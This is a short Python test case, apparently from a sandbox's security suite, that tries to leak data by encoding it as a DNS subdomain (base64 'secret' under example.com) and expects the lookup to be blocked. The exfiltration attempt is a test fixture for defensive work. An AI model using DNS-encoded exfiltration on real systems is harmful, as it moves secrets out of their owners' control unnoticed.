# attack: leaks data in the name of a host to look up
# expect: outcome=ok
# expect-stdout: BLOCKED
# forbid-stdout: ESCAPED
import socket

from attack import finish

try:
    addresses = socket.getaddrinfo("c2VjcmV0.example.com", 80)
except OSError as error:
    finish("BLOCKED", str(error))
finish("ESCAPED", str(addresses))
